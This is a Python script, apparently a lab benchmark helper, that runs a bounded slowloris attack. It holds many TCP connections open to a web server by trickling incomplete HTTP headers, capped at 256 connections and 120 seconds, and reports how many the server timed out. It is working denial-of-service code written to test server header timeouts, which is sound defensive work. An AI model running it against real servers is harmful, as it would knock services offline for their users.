"""A bounded slow-client attack, run INSIDE a lab phone namespace (tests and bench.portal use it).

``python bench/_slowloris.py --host 192.0.2.1 --port 80 --connections 64 --duration 20``

Keeps up to ``--connections`` TCP connections open to ``host:port``, each sending an
HTTP request's headers one short line every ``--interval`` seconds and never finishing
them (the "slowloris" attack); a connection the server closes is opened again. Stops
after ``--duration`` seconds (at most 120) whatever happens. Prints one JSON line:
connection attempts, refused/reset ones, the most held open at once, and how many the
server closed (header timeouts).
"""

from __future__ import annotations

import argparse
import json
import selectors
import signal
import socket
import time

MAX_CONNECTIONS = 256
MAX_DURATION = 120.0


def _open(host: str, port: int) -> socket.socket | None:
    sock = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_STREAM)
    sock.settimeout(2.0)
    try:
        sock.connect((host, port))
        sock.sendall(f"GET /?slow HTTP/1.1\r\nHost: {host}\r\n".encode())
    except OSError:
        sock.close()
        return None
    sock.setblocking(False)
    return sock


def main() -> None:
    """Run the attack for the given time; print the JSON summary."""
    parser = argparse.ArgumentParser()
    parser.add_argument("--host", required=True)
    parser.add_argument("--port", type=int, default=80)
    parser.add_argument("--connections", type=int, default=64)
    parser.add_argument("--duration", type=float, default=20.0)
    parser.add_argument("--interval", type=float, default=1.0)
    args = parser.parse_args()
    wanted = max(1, min(args.connections, MAX_CONNECTIONS))
    end = time.monotonic() + max(0.5, min(args.duration, MAX_DURATION))
    sel = selectors.DefaultSelector()
    held: set[socket.socket] = set()
    stats = {"attempts": 0, "refused": 0, "closed_by_server": 0, "max_open": 0}
    next_trickle = time.monotonic()
    stopped = []
    signal.signal(signal.SIGTERM, lambda *_: stopped.append(True))  # stop early, still report

    def reap(timeout: float) -> None:
        """Drop the connections the server closed (readable with nothing to read)."""
        for key, _ in sel.select(timeout=timeout):
            sock = key.fileobj
            try:
                data = sock.recv(4096)
            except OSError:
                data = b""
            if not data:  # the server gave up on us (or answered 4xx and closed)
                stats["closed_by_server"] += 1
                sel.unregister(sock)
                held.discard(sock)
                sock.close()

    while time.monotonic() < end and not stopped:
        while len(held) < wanted and time.monotonic() < end:
            stats["attempts"] += 1
            sock = _open(args.host, args.port)
            if sock is None:
                stats["refused"] += 1
                break  # refused: try again on the next round, do not spin
            held.add(sock)
            sel.register(sock, selectors.EVENT_READ)
        reap(0.05)  # what the server already closed is not held
        stats["max_open"] = max(stats["max_open"], len(held))
        reap(0.2)
        if time.monotonic() >= next_trickle:
            next_trickle = time.monotonic() + args.interval
            for sock in list(held):
                try:
                    sock.send(b"X-a: b\r\n")
                except OSError:
                    stats["closed_by_server"] += 1
                    sel.unregister(sock)
                    held.discard(sock)
                    sock.close()
    for sock in held:
        sock.close()
    print(json.dumps(stats), flush=True)


if __name__ == "__main__":
    main()
